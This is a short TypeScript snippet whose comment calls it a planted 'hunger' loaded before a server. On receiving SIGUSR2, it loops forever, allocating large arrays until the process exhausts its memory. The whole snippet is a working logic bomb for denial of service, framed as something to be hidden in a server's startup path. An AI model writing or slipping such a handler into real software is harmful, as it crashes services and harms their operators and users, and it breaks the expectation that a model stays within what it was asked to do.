// A hunger that is planted, loaded before the server: at SIGUSR2 it takes memory until there is none left.
const eaten: unknown[] = []

process.on('SIGUSR2', () => {
  for (;;) eaten.push(Array.from({ length: 100_000 }, (_, at) => ({ at })))
})
